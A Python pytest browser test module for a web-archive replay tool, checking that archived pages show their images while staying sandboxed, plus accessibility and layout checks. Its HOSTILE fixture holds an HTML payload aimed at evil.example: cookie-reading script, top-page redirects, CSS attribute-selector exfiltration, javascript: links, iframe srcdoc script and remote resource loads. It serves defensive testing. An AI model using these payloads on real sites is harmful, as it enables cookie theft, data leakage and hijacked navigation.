"""Stored pages in a real browser: their pictures are there, and nothing of them runs, leaves or reaches our pages."""

from __future__ import annotations

from collections.abc import Iterator
from typing import Any
from urllib.parse import urlsplit

import pytest

from tests.browser.conftest import Visits, arshif, served
from tests.browser.test_looks import SHIFT, faults_of, sideways
from tests.corpus.replay.saved_parts import PAGE_URL, RED, crawled, mhtml, page

pytestmark = pytest.mark.browser

HOSTILE_URL = "https://evil.example/"
# Each of them would make a request, run, or lead away.
HOSTILE = f"""
<base href="{HOSTILE_URL}"><meta http-equiv="refresh" content="0;url={HOSTILE_URL}refresh">
<meta http-equiv="Content-Security-Policy" content="default-src * 'unsafe-inline' data:">
<script>document.title = parent.document.cookie; top.location = "{HOSTILE_URL}top";</script>
<script src="{HOSTILE_URL}x.js"></script><link rel="stylesheet" href="{HOSTILE_URL}x.css"><link rel="icon" href="x.ico">
<link rel="preload" as="image" href="{HOSTILE_URL}preload.png"><link rel="prefetch" href="{HOSTILE_URL}prefetch">
<link rel="dns-prefetch" href="//evil.example"><link rel="manifest" href="{HOSTILE_URL}m.json">
<style>@import "{HOSTILE_URL}import.css"; @font-face {{ font-family: x; src: url({HOSTILE_URL}f.woff2) }}
body {{ background: url({HOSTILE_URL}css.png); font-family: x }} input[value^=a] {{ background: u\\72l({HOSTILE_URL}a) }}
p::after {{ content: image-set("{HOSTILE_URL}set.png" 1x) }}</style>
<img src="{HOSTILE_URL}a.png" onerror="top.location='{HOSTILE_URL}error'"><img srcset="{HOSTILE_URL}b.png 1x">
<picture><source srcset="{HOSTILE_URL}c.png"><img src="d.png"></picture><video src="e.mp4" poster="f.png" autoplay></video>
<iframe src="{HOSTILE_URL}frame"></iframe><iframe srcdoc="<img src='{HOSTILE_URL}inner.png'><script>alert(1)</script>"></iframe>
<object data="{HOSTILE_URL}o"></object><embed src="{HOSTILE_URL}em"><svg><image href="{HOSTILE_URL}s.png"/></svg>
<svg><a id="drawn" href="javascript:alert(1)"><text y="20">x</text></a></svg>
<form id="form" action="{HOSTILE_URL}form"><input name="q" value="abc"><button id="send">إرسال</button></form>
<p><a id="away" href="{HOSTILE_URL}away" target="_top">خارج</a> <a id="script" href="javascript:top.location='{HOSTILE_URL}js'">x</a></p>
"""


@pytest.fixture(scope="module")
def saved(tmp_path_factory: pytest.TempPathFactory) -> Iterator[str]:
    """The address of an archive of saved pages."""
    directory = tmp_path_factory.mktemp("saved")
    archive = str(directory / "archive")
    arshif(archive, "init", archive)
    for name, data in (
        ("crawl.warc.gz", crawled().data),
        ("later.warc.gz", crawled(page("<p>وأضيفت فقرة.</p>"), "2019-04-01T10:00:00Z").data),
        ("hostile.html", page(HOSTILE).replace("<head>", "<head><!-- saved from url=(0030)https://evil.example/1 -->").encode()),
        ("page.mhtml", mhtml(page('<img src="cid:red@page">').replace("الجسر", "النفق"), ("cid:red@page", "image/png", RED))
         .replace(PAGE_URL.encode(), b"https://jarida.example/news/8")),
    ):  # fmt: skip
        (directory / name).write_bytes(data)
        arshif(archive, "add", str(directory / name))
    with served(archive) as url:
        yield url


@pytest.fixture
def visits(browser: Any, saved: str) -> Iterator[Visits]:
    opened = Visits(browser, saved)
    yield opened
    opened.close()


def address(url: str, **parameters: str) -> str:
    return f"/article-page?id={url}" + "".join(f"&{name}={value}" for name, value in parameters.items())


def frame_of(page: Any) -> Any:
    page.locator("iframe.kept-frame").wait_for()
    shown = page.frame(url=lambda url: "/page/frame" in url or "/article-page/frame" in url)
    assert shown is not None
    shown.wait_for_load_state()
    return shown


def outside(page: Any) -> list[str]:
    """The requests that leave for another site, from now on; they are answered with nothing."""
    made: list[str] = []

    def note(route: Any) -> None:
        made.append(route.request.url)
        route.fulfill(body="")

    page.context.route(lambda url: (urlsplit(url).hostname or "").endswith(".example"), note)
    return made


def widths(page: Any) -> list[int]:
    """The widths of the pictures as the browser has decoded them."""
    found: list[int] = frame_of(page).locator("img").evaluate_all("(all) => all.map((img) => img.naturalWidth)")
    return found


def test_a_page_of_a_crawl_has_its_pictures_and_styles(visits: Visits) -> None:
    opened = visits("/")
    made = outside(opened)
    opened.goto(address(PAGE_URL, revision="1"))
    assert widths(opened) == [40, 0]
    shown = frame_of(opened)
    assert shown.locator("h1").evaluate("(one) => getComputedStyle(one).color") == "rgb(153, 0, 0)"
    assert "data:image/png" in shown.locator("body").evaluate("(one) => getComputedStyle(one).backgroundImage")
    assert made == []
    assert visits.said == []


def test_mhtml_has_its_picture(visits: Visits) -> None:
    opened = visits(address("https://jarida.example/news/8"))
    assert widths(opened) == [40]


def test_a_hostile_page_makes_no_request_and_stays_in_its_frame(visits: Visits) -> None:
    opened = visits("/")
    made = outside(opened)
    opened.goto(address("https://evil.example/1"))
    shown = frame_of(opened)
    opened.wait_for_timeout(1500)
    assert made == []
    assert opened.url.endswith("https://evil.example/1")
    assert shown.locator("script, object, embed, base, meta, form[action]").count() == 0
    assert shown.locator("#send").is_disabled()
    assert visits.said == []


def test_the_policy_of_the_frame_alone_stops_a_hostile_page(visits: Visits) -> None:
    """As if nothing in the page had been rewritten."""
    opened = visits("/")
    made = outside(opened)

    def raw(route: Any) -> None:
        route.fulfill(response=route.fetch(), body=page(HOSTILE))

    opened.context.route("**/frame?*", raw)
    opened.goto(address("https://evil.example/1"))
    shown = frame_of(opened)
    title = opened.title()
    assert shown.locator("#away").count() == 1
    for target in ("#send", "#away", "#script"):
        shown.locator(target).click()
        opened.wait_for_timeout(300)
    opened.wait_for_timeout(1000)
    assert made == []
    assert opened.url.endswith("https://evil.example/1")
    assert opened.title() == title


def test_a_page_opened_without_its_frame_is_no_less_confined(visits: Visits) -> None:
    opened = visits("/")
    made = outside(opened)
    opened.context.route("**/frame?*", lambda route: route.fulfill(response=route.fetch(), body=page(HOSTILE)))
    opened.goto(address("https://evil.example/1").replace("/article-page", "/article-page/frame"))
    opened.wait_for_timeout(1000)
    assert [url for url in made if not url.endswith("/refresh")] == []
    assert opened.evaluate("origin") == "null"


def test_a_frame_has_no_cookies_and_no_origin(visits: Visits) -> None:
    opened = visits(address(PAGE_URL))
    shown = frame_of(opened)
    assert shown.evaluate("origin") == "null"
    assert (
        shown.evaluate("(() => { try { return document.cookie } catch (error) { return error.name } })()")
        == "SecurityError"
    )
    assert (
        shown.evaluate("(() => { try { return parent.document.title } catch (error) { return error.name } })()")
        == "SecurityError"
    )


def test_no_other_site_may_frame_it(visits: Visits) -> None:
    opened = visits("/")
    for path in (address(PAGE_URL), address(PAGE_URL).replace("/article-page", "/article-page/frame")):
        answer = opened.request.get(path)
        assert "frame-ancestors 'none'" in answer.headers["content-security-policy"] or (
            "frame-ancestors 'self'" in answer.headers["content-security-policy"] and "/frame" in path
        )


def test_a_link_opens_a_tab_that_says_where_it_leads(visits: Visits) -> None:
    opened = visits(address("https://evil.example/1"))
    made = outside(opened)
    with opened.context.expect_page() as opening:
        frame_of(opened).locator("#away").click()
    tab = opening.value
    tab.wait_for_load_state()
    assert tab.locator("main a").get_attribute("href") == f"{HOSTILE_URL}away"
    assert tab.evaluate("opener") is None
    assert made == []


def test_versions_lead_to_one_another_and_back(visits: Visits) -> None:
    opened = visits(address(PAGE_URL))
    assert "الإصدار 2 من 2" in opened.locator(".kept-versions").inner_text()
    opened.locator(".kept-versions a").click()
    assert "الإصدار 1 من 2" in opened.locator(".kept-versions").inner_text()
    assert "1 من 2" in opened.locator(".kept-counts").inner_text()
    opened.go_back()
    assert "الإصدار 2 من 2" in opened.locator(".kept-versions").inner_text()
    opened.locator(".back a").click()
    assert opened.locator("h1").inner_text() == "افتتاح الجسر"


def test_the_frame_is_reached_by_keyboard_and_works_without_scripts(visits: Visits) -> None:
    opened = visits(address(PAGE_URL), java_script_enabled=False)
    frame_of(opened)
    for _ in range(20):
        opened.keyboard.press("Tab")
        if opened.evaluate("document.activeElement.localName") == "iframe":
            return
    pytest.fail("Tab never reaches the frame")


@pytest.mark.parametrize("language", ["ar", "en"])
@pytest.mark.parametrize("revision", ["1", "2"])
def test_axe_finds_no_fault_and_nothing_scrolls_sideways(visits: Visits, language: str, revision: str) -> None:
    opened = visits(address(PAGE_URL, revision=revision), language=language, color_scheme="light", bypass_csp=True)
    assert faults_of(opened) == []
    opened = visits(address(PAGE_URL, revision=revision), language=language)
    assert opened.evaluate(SHIFT) < 0.02
    for width in (320, 390, 1280, 2560, 3840):
        assert sideways(opened, width) == []
        assert opened.locator("iframe").bounding_box()["height"] >= 400
    assert visits.said == []


def test_the_page_that_names_an_address_is_accessible(visits: Visits) -> None:
    opened = visits("/outside?to=https://x.example/" + "a" * 500, color_scheme="light", bypass_csp=True)
    assert faults_of(opened) == []
    assert sideways(opened, 320) == []
